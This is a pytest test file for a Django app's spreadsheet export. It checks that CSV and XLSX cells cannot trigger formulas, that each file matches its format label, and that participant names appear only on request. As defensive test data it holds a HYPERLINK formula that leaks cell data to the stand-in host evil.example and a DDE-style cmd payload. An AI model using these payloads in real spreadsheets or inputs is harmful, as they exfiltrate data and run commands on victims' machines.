"""What leaves the app as a spreadsheet: no formulas, exactly what the label says, names only on request."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from reports.export import COLUMNS, EXPORTS, HISTORY_COLUMNS, csv_cell
from reports.forms import ExportForm
from scoring.models import AllocationChange
from sessions.models import Contribution, Participant, Prompt, Role

from .conftest import allocate, points

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Klik")'
# What people type that a spreadsheet would run, or that an escape would visibly change.
HOSTILE_TEXTS = ["=SUM(A1:A9)", "@naam", "+31 6 1234", "-2+3", "'t Hooft", "=", "\tTab"]


@pytest.fixture(autouse=True)
def _names_allowed(evaluation):
    """The named export exists where the evaluation lets the team see names; these tests are
    about that file (test_team_sees_no_names covers an evaluation without names)."""
    evaluation.names_in_interim_report = True
    evaluation.save()


def export(client, evaluation, **params):
    return client.get(reverse("reports:export", args=[evaluation.slug]), params)


def csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def xlsx_cells(response) -> list:
    """Every cell of every sheet, with openpyxl's type: 'f' is a formula."""
    book = load_workbook(io.BytesIO(response.content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def hostile(evaluation, session, key_moment, verteller):
    """Text typed by participants and the team that a spreadsheet would run."""
    attacker = Participant.objects.create(
        evaluation=evaluation, name=FORMULA, organisation="+31 6 1234", role=Role.REFLECTOR
    )
    session.participants.add(attacker)
    key_moment.title = "@SUM(1+1)*cmd|' /C calc'!A0"
    key_moment.save()
    session.room = "-2+3"
    session.save()
    allocate(session, attacker)
    allocate(session, verteller)
    prompt = Prompt.objects.create(evaluation=evaluation, title="=1+1")
    for text in HOSTILE_TEXTS:
        Contribution.objects.create(
            prompt=prompt, participant=attacker, text=text, client_token=text
        )
    for person in (attacker, verteller):
        AllocationChange.objects.create(
            session=session, participant=person, new_points=points(), changed_by=person.name
        )
    return attacker


class TestFormulaInjection:
    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
    def test_every_formula_trigger_is_neutralised_in_a_csv_cell(self, start):
        assert csv_cell(f"{start}1+1") == f"'{start}1+1"

    def test_plain_text_numbers_and_dates_stay_as_they_are(self):
        assert csv_cell("Vera Verteller") == "Vera Verteller"
        assert csv_cell(-3) == -3
        assert csv_cell(None) is None

    def test_control_characters_that_break_xlsx_are_removed(self):
        assert csv_cell("Vera\x07 V\x00") == "Vera V"

    @pytest.mark.parametrize("names", ["on", ""])
    def test_every_xlsx_cell_is_a_plain_value_showing_exactly_what_was_typed(
        self, client, analyst, evaluation, hostile, names
    ):
        """Tester: the XLSX showed the escape's apostrophe ('=SUM, '@naam). A string cell is
        never evaluated, so the text goes in as typed: no formula, and no apostrophe added."""
        client.force_login(analyst)
        cells = xlsx_cells(export(client, evaluation, format="xlsx", names=names))
        assert cells
        assert not [c.value for c in cells if c.data_type == "f"]
        assert not [c.value for c in cells if isinstance(c.value, str) and c.data_type != "s"]
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert "@SUM(1+1)*cmd|' /C calc'!A0" in texts  # the key moment, pseudonymised too
        assert any("-2+3" in t for t in texts)  # the room, inside the session's name
        assert set(HOSTILE_TEXTS) <= set(texts)  # every contribution, on the wall sheet
        assert "=1+1" in texts  # the question
        assert not [t for t in texts if t.startswith("'") and t != "'t Hooft"]
        if names:
            assert FORMULA in texts and "+31 6 1234" in texts

    @pytest.mark.parametrize("kind", ["csv", "csv-wijzigingen"])
    @pytest.mark.parametrize("names", ["on", ""])
    def test_no_csv_cell_starts_a_formula(self, client, analyst, evaluation, hostile, kind, names):
        client.force_login(analyst)
        rows = csv_rows(export(client, evaluation, format=kind, names=names))
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        if names:
            assert "'" + FORMULA in cells

    @pytest.mark.parametrize("kind", ["csv", "csv-wijzigingen"])
    def test_a_csv_cell_differs_from_what_was_typed_only_by_the_escape(
        self, client, analyst, evaluation, hostile, kind
    ):
        """Unescaping (dropping the one apostrophe before a trigger) gives the text back."""
        client.force_login(analyst)
        rows = csv_rows(export(client, evaluation, format=kind, names="on"))
        cells = {
            c[1:] if c.startswith("'") and c[1:].startswith(("=", "+", "-", "@")) else c
            for row in rows
            for c in row
        }
        assert FORMULA in cells  # the name, in both files
        if kind == "csv":
            assert {"+31 6 1234", "@SUM(1+1)*cmd|' /C calc'!A0"} <= cells

    def test_an_xlsx_with_a_control_character_in_a_name_still_downloads(
        self, client, analyst, evaluation, session, verteller
    ):
        verteller.name = "Vera\x07"
        verteller.save()
        allocate(session, verteller)
        client.force_login(analyst)
        response = export(client, evaluation, format="xlsx", names="on")
        assert response.status_code == 200
        assert "Vera" in [c.value for c in xlsx_cells(response)]


class TestEachOptionGivesWhatItSays:
    def test_every_form_choice_has_an_export_and_no_more(self):
        assert {key for key, _label in ExportForm.FORMATS} == set(EXPORTS)

    @pytest.mark.parametrize(
        "kind, content_type, header",
        [
            ("xlsx", "application/vnd.openxmlformats", None),
            ("csv", "text/csv", COLUMNS),
            ("csv-wijzigingen", "text/csv", HISTORY_COLUMNS),
        ],
    )
    def test_the_download_is_the_format_on_the_label(
        self, client, analyst, evaluation, hostile, kind, content_type, header
    ):
        client.force_login(analyst)
        response = export(client, evaluation, format=kind)
        assert response.status_code == 200
        assert response["Content-Type"].startswith(content_type)
        extension = "xlsx" if kind == "xlsx" else "csv"
        assert response["Content-Disposition"].endswith(f'.{extension}"')
        if header is None:
            assert response.content.startswith(b"PK")  # a zip container, i.e. XLSX
            book = load_workbook(io.BytesIO(response.content))
            assert book.sheetnames == ["Puntenverdelingen", "Wijzigingen", "Slotdialoog"]
        else:
            rows = csv_rows(response)
            assert rows[0] == header
            assert len(rows) == 3

    @pytest.mark.parametrize("kind", ["xlsx", "csv", "csv-wijzigingen"])
    @pytest.mark.parametrize("extra", [{}, {"pseudonymise": ""}, {"names": ""}])
    def test_names_only_when_asked_for_in_every_format(
        self, client, analyst, evaluation, session, verteller, kind, extra
    ):
        allocate(session, verteller)
        AllocationChange.objects.create(
            session=session, participant=verteller, new_points=points(), changed_by="Vera"
        )
        client.force_login(analyst)
        response = export(client, evaluation, format=kind, **extra)
        content = (
            " ".join(str(c.value) for c in xlsx_cells(response))
            if kind == "xlsx"
            else response.content.decode("utf-8-sig")
        )
        assert "Vera" not in content and "Waterschap" not in content
        assert verteller.pseudonym in content

    def test_the_analyst_gets_names_when_asking(
        self, client, analyst, evaluation, session, verteller
    ):
        allocate(session, verteller)
        client.force_login(analyst)
        content = export(client, evaluation, format="csv", names="on").content.decode("utf-8-sig")
        assert "Vera Verteller" in content and "Waterschap" in content

    def test_the_facilitator_cannot_export_names(
        self, client, facilitator, evaluation, session, verteller
    ):
        allocate(session, verteller)
        client.force_login(facilitator)
        response = export(client, evaluation, format="csv", names="on")
        assert response.status_code == 400
        assert "Alleen de analist" in response.content.decode()
        assert "Vera" not in response.content.decode()

    @pytest.mark.parametrize("columns", [COLUMNS, HISTORY_COLUMNS])
    def test_headers_are_unique(self, columns):
        assert len(columns) == len(set(columns))


class TestPseudonymsGiveNothingAway:
    """Tester's M4 and Minor 11: the pseudonymised file may not be re-identified by its row
    order, `?names=0` is no, and the two files are named apart."""

    @pytest.fixture
    def room(self, evaluation, session):
        """Five people whose pseudonyms sort the other way round from their names."""
        people = []
        for i, name in enumerate(["Anna", "Bert", "Cor", "Dirk", "Eva"]):
            person = Participant.objects.create(
                evaluation=evaluation,
                name=name,
                role=Role.REFLECTOR,
                pseudonym=f"Deelnemer-{9 - i}",
            )
            session.participants.add(person)
            allocate(session, person)
            people.append(person)
        return people

    @pytest.mark.parametrize("kind", ["csv", "xlsx"])
    def test_rows_follow_the_pseudonyms_not_the_names(
        self, client, analyst, evaluation, room, kind
    ):
        client.force_login(analyst)

        def people(response) -> list[str]:
            if kind == "csv":
                rows = csv_rows(response)[1:]
            else:
                sheet = load_workbook(io.BytesIO(response.content))["Puntenverdelingen"]
                rows = [[str(c.value) for c in row] for row in sheet.iter_rows(min_row=2)]
            column = COLUMNS.index("deelnemer")
            return [row[column] for row in rows]

        named = people(export(client, evaluation, format=kind, names="ja"))
        pseudonymised = people(export(client, evaluation, format=kind))
        assert named == ["Anna", "Bert", "Cor", "Dirk", "Eva"]
        assert pseudonymised == sorted(pseudonymised)
        by_pseudonym = {p.pseudonym: p.name for p in room}
        assert [by_pseudonym[p] for p in pseudonymised] != named

    @pytest.mark.parametrize("value", ["0", "nee", "no", "false", "uit", "off"])
    def test_a_no_in_any_words_gives_pseudonyms(
        self, client, analyst, evaluation, session, verteller, value
    ):
        allocate(session, verteller)
        client.force_login(analyst)
        response = export(client, evaluation, format="csv", names=value)
        content = response.content.decode("utf-8-sig")
        assert response.status_code == 200
        assert "Vera" not in content and verteller.pseudonym in content

    @pytest.mark.parametrize("kind", ["xlsx", "csv", "csv-wijzigingen"])
    def test_a_file_with_names_is_named_so(self, client, analyst, evaluation, session, kind):
        client.force_login(analyst)
        plain = export(client, evaluation, format=kind)["Content-Disposition"]
        named = export(client, evaluation, format=kind, names="ja")["Content-Disposition"]
        assert "met-namen" not in plain
        assert "-met-namen." in named
        assert plain != named
